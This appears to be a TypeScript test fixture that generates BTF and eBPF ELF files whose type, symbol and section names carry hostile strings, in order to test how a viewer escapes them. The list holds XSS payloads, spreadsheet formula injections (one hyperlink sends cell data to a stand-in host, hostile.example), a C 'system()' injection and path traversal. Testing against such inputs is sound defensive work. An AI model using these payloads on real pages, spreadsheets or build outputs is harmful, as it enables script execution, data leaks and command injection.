/**
 * Hostile names, and files that have them wherever files have names: types and members, sections,
 * symbols, programs, source lines.
 *
 * A name is any bytes up to a NUL (gABI, "String Table"; btf.rst, "String Section").
 */
import { assemble, distance, hex, label, u8, u16, u32 } from './assemble.ts';
import { type BtfBlob, btfBlob } from './btf-blob.ts';
import {
  datasec,
  declTag,
  enum64,
  enumeration,
  float,
  func,
  funcProto,
  fwd,
  int,
  ptr,
  struct,
  type TypeRecord,
  typedef,
  typeTag,
  union,
  variable,
} from './btf-types.ts';
import { type ElfSection, type ElfSymbol, elfObject } from './elf-object.ts';

export type HostileName = {
  /** Words that describe why the name is hostile. */
  readonly what: string;
  /** Bytes of the name, without the NUL. */
  readonly bytes: Uint8Array<ArrayBuffer>;
};

const utf8 = (what: string, name: string): HostileName => ({
  what,
  bytes: new TextEncoder().encode(name),
});
const bytes = (what: string, ...values: readonly number[]): HostileName => ({
  what,
  bytes: Uint8Array.from(values),
});
const range = (first: number, last: number) =>
  Array.from({ length: last - first + 1 }, (_, i) => first + i);

/** Host name in hostile names. Tests fail if the page sends it a request. */
const HOSTILE_HOST = 'hostile.example';

/** One name for each way to mislead a reader of the page or a program that reads exported text. */
export const HOSTILE_NAMES: readonly HostileName[] = [
  utf8('markup that ends a script', '</script><img src=x onerror=alert(1)>'),
  utf8('markup out of an attribute', `"><iframe src="https://${HOSTILE_HOST}/"></iframe>`),
  utf8('markup out of an SVG', ']]></text></svg><svg onload=alert(1)>'),
  utf8('a comment of markup', '<!-- --!><script>alert(1)</script>'),
  utf8('entities', '&lt;b&gt; &#x202e;&amp;'),
  utf8('a script as an address', 'javascript:alert(1)'),
  utf8('an address', `https://${HOSTILE_HOST}/?a=b&c`),
  utf8('an address without a scheme', `www.${HOSTILE_HOST}/`),
  utf8('an address of mail', `root@${HOSTILE_HOST}`),
  utf8('control characters', String.fromCharCode(...range(1, 31), 127)),
  utf8('C1 control characters', String.fromCharCode(...range(0x80, 0x9f))),
  bytes('C1 control characters as bytes', ...range(0x80, 0x9f)),
  utf8('an escape sequence', '\u001b[2J\u001b]0;title\u0007'),
  utf8('bidirectional overrides', 'a\u202eb\u202dc\u202ad\u202be\u202c'),
  utf8('bidirectional isolates and marks', 'a\u2066b\u2067c\u2068d\u2069\u200e\u200f\u061c'),
  utf8('zero-width characters', 'pa\u200bss\u200cwo\u200drd\u2060\ufeff'),
  utf8('characters that are ignored', 'a\u034fb\ufe0fc\u{e0100}d\u{e0061}e\u115ff\u3164'),
  utf8('blanks of all sorts', 'a\u00a0b\u2003c\u2028d\u2029e\u3000f\u2800'),
  utf8('a stack of marks', `Z${'\u0335\u0321\u0489\u0315'.repeat(50)}`),
  utf8('a mark first', '\u0338equals'),
  utf8('look-alikes', 't\u0430sk_struct'),
  utf8('no characters', 'a\uffffb\ufffec\ufdd0d\u{1fffe}'),
  bytes('no UTF-8', 0x61, 0xff, 0xfe, 0xc0, 0xaf, 0xe2, 0x82, 0x28, 0x62),
  bytes('halves of a surrogate', 0x61, 0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80, 0x62),
  bytes('no UTF-8 and markup', 0xff, ...new TextEncoder().encode('<img src=x onerror=alert(1)>')),
  utf8('a formula', `=HYPERLINK("https://${HOSTILE_HOST}/?"&A1,"more")`),
  utf8('a command', "+cmd|' /C calc'!A0"),
  utf8('a sum', '@SUM(1+1)*cmd'),
  utf8('a negative sum', '-1+1'),
  utf8('a full-width formula', '\uff1d1+1'),
  utf8('a formula behind a tab', '\t=1+1'),
  utf8('a formula behind a line', 'a\r\n=1+1'),
  utf8('a formula behind a separator', 'a;=1+1;@b'),
  utf8('a negative number', '-1'),
  utf8('double quotes', 'a"b""c",d'),
  utf8('single quotes', "a'b''c"),
  utf8('backticks', '`a``b```'),
  utf8('pipes', 'a|b||c\\|d|'),
  utf8('backslashes', 'a\\nb\\\\'),
  utf8('braces of records', '{<h> a|b}'),
  utf8('a line and a statement', 'a\n}; system("x");\n'),
  utf8('the end of a comment', 'a*/ int evil(void); /*'),
  utf8('the start of a comment', 'a//b #define c'),
  utf8('trigraphs and a continued line', '??/\n??>\\'),
  utf8('links and pictures of Markdown', `![a](https://${HOSTILE_HOST}/a.png)[b][c]<d>`),
  utf8('a mention', '@everyone #1 *a* _b_ ~~c~~ $d$'),
  utf8('an option', '--help'),
  utf8('a fragment', '#type=int&view=hex'),
  utf8('a way up', '%2e%2e/../..\\..'),
  utf8('a template', '{{b}}%s%n$' + '{a}'),
  utf8('the prototype', '__proto__'),
  utf8('the constructor', 'constructor'),
  utf8('a method', 'toString'),
  utf8('blanks', '  '),
  utf8('a number', '0x18'),
];

/** Name of one megabyte, without spaces and line breaks. */
export const LONG_NAME: HostileName = {
  what: 'a megabyte',
  bytes: new Uint8Array(1 << 20).fill(0x57),
};

/**
 * Number of types that all names share. The types of name `i` begin at id `3 + TYPES_A_NAME * i`.
 */
const SHARED_TYPES = 2;
const TYPES_A_NAME = 18;

/** Returns the ids of the types for name `index` that tests use. */
export function hostileIds(index: number) {
  const first = SHARED_TYPES + 1 + TYPES_A_NAME * index;
  return {
    first,
    struct: first,
    enumeration: first + 2,
    enum64: first + 3,
    func: first + 5,
    union: first + 6,
    typedef: first + 8,
    /** Id of the struct that has members of all other kinds. */
    holder: first + 17,
    last: first + TYPES_A_NAME - 1,
  };
}

/** Returns a BTF blob that has, for each name, types of all kinds with the name. */
export function hostileBtf(names: readonly HostileName[]): Uint8Array<ArrayBuffer> {
  const given = new EncodedNames(names);
  return given.written(blobOf(given.spelled).bytes);
}

/**
 * Returns an ELF object with the types of `hostileBtf`. For each name it has a program, a function,
 * a variable, a relocation section, source lines, and CO-RE records for the struct and the enum.
 */
export function hostileObject(names: readonly HostileName[]): Uint8Array<ArrayBuffer> {
  const encoded = new EncodedNames(names);
  const { spelled } = encoded;
  const blob = blobOf(spelled);
  const sections: ElfSection[] = spelled.flatMap((name, i) => [
    { name, flags: ALLOC_EXEC, data: INSNS },
    {
      name: `.rel${name}`,
      type: REL,
      link: '.symtab',
      info: 1 + 2 * i,
      entsize: 16,
      // Relocation R_BPF_64_64 of the second instruction, which loads the variable's address.
      data: [...u64Parts(8), u32(1), u32(1 + spelled.length + i)],
    },
  ]);
  const symbols: ElfSymbol[] = [
    ...spelled.map((name) => ({ name, size: INSNS.length, type: FUNC, shndx: name })),
    ...spelled.map((name, i) => ({ name, value: 8 * i, size: 8, type: OBJECT, shndx: '.data' })),
  ];
  const object = elfObject({
    sections: [
      ...sections,
      { name: '.data', flags: 3, data: new Uint8Array(8 * spelled.length) },
      { name: 'license', flags: 3, data: new TextEncoder().encode('GPL\0') },
      { name: '.BTF', data: blob.bytes },
      { name: '.BTF.ext', data: extOf(blob, spelled) },
    ],
    symbols,
  });
  return encoded.written(object.bytes);
}

const ALLOC_EXEC = 6;
const REL = 9;
const OBJECT = 1;
const FUNC = 2;

/** The instructions `r1 = 4; r2 = 0 ll; r0 = 1; exit`. */
const INSNS = assemble(
  'little',
  hex('b7 01 00 00 04 00 00 00'),
  hex('18 02 00 00 00 00 00 00 00 00 00 00 00 00 00 00'),
  hex('b7 00 00 00 01 00 00 00 95 00 00 00 00 00 00 00'),
).bytes;

function u64Parts(value: number) {
  return [u32(value), u32(0)];
}

function blobOf(spelled: readonly string[]): BtfBlob {
  return btfBlob({
    types: [int('int', 4), int('long', 8), ...spelled.flatMap(typesOf)],
    strings: ['0:0', '0'],
  });
}

const INT = 1;
const LONG = 2;

function typesOf(name: string, index: number): readonly TypeRecord[] {
  const { first } = hostileIds(index);
  return [
    struct(name, 16, [
      { name, type: INT, bitOffset: 0 },
      { name: `${name}_next`, type: first + 1, bitOffset: 64 },
    ]),
    ptr(first),
    enumeration(name, [
      [name, 1],
      [`${name}_last`, 2],
    ]),
    enum64(name, [[name, -1n]], { signed: true }),
    funcProto(INT, [
      [name, first + 1],
      [`${name}_flags`, LONG],
    ]),
    func(name, first + 4),
    union(name, 8, [{ name, type: LONG, bitOffset: 0 }]),
    fwd(name),
    typedef(name, first),
    typeTag(name, first),
    declTag(name, first, 0),
    variable(name, first + 6),
    datasec(name, 8, [[first + 11, 0, 8]]),
    float(name, 4),
    int(name, 4),
    ptr(first + 9),
    ptr(first + 4),
    struct(`${name}_holder`, 40, [
      { name: `${name}_tagged`, type: first + 15, bitOffset: 0 },
      { name: `${name}_call`, type: first + 16, bitOffset: 64 },
      { name: `${name}_float`, type: first + 13, bitOffset: 128 },
      { name: `${name}_int`, type: first + 14, bitOffset: 160 },
      { name: `${name}_enum`, type: first + 2, bitOffset: 192 },
      { name: `${name}_typedef`, type: first + 1, bitOffset: 256 },
    ]),
  ];
}

/** Returns a `.BTF.ext` with, for each program, its start, a source line and two CO-RE records. */
function extOf(blob: BtfBlob, spelled: readonly string[]): Uint8Array {
  const off = spelled.map((name) => u32(blob.stringOff(name)));
  const part = (i: number) => off[i] ?? u32(0);
  const each = (of: (name: ReturnType<typeof part>, index: number) => ReturnType<typeof part>[]) =>
    spelled.flatMap((_, i) => of(part(i), i));
  return assemble(
    'little',
    u16(0xeb9f),
    u8(1),
    u8(0),
    u32(32),
    u32(distance('funcs', 'funcs')),
    u32(distance('funcs', 'lines')),
    u32(distance('funcs', 'lines')),
    u32(distance('lines', 'core')),
    u32(distance('funcs', 'core')),
    u32(distance('core', 'end')),
    label('funcs'),
    u32(8),
    ...each((name, i) => [name, u32(1), u32(0), u32(hostileIds(i).func)]),
    label('lines'),
    u32(16),
    // The hostile name is also the text of the source line.
    ...each((name) => [name, u32(1), u32(0), name, name, u32(1024)]),
    label('core'),
    u32(16),
    ...each((name, i) => [
      ...[name, u32(2), u32(0), u32(hostileIds(i).struct), u32(blob.stringOff('0:0')), u32(1)],
      ...[u32(24), u32(hostileIds(i).enumeration), u32(blob.stringOff('0')), u32(10)],
    ]),
    label('end'),
  ).bytes;
}

/**
 * Passes names of any bytes through builders that take text. A name that is not UTF-8 becomes a
 * placeholder of the same length, which is overwritten in the built file.
 */
class EncodedNames {
  readonly spelled: readonly string[];
  readonly #standIns: readonly (readonly [standIn: Uint8Array, bytes: Uint8Array])[];

  constructor(names: readonly HostileName[]) {
    const decoder = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
    const standIns: (readonly [Uint8Array, Uint8Array])[] = [];
    this.spelled = names.map((name, i) => {
      try {
        return decoder.decode(name.bytes);
      } catch {
        const standIn = `N${i}`.padEnd(name.bytes.length, '~');
        if (standIn.length !== name.bytes.length) throw new RangeError(`too short: ${name.what}`);
        standIns.push([new TextEncoder().encode(standIn), name.bytes]);
        return standIn;
      }
    });
    this.#standIns = standIns;
  }

  /** Overwrites the placeholders in the built file with the names. Returns the file. */
  written(file: Uint8Array<ArrayBuffer>): Uint8Array<ArrayBuffer> {
    for (const [standIn, name] of this.#standIns) {
      for (let at = 0; at + standIn.length <= file.length; at++) {
        at = file.indexOf(standIn[0] ?? 0, at);
        if (at < 0) break;
        if (standIn.every((byte, i) => file[at + i] === byte)) file.set(name, at);
      }
    }
    return file;
  }
}
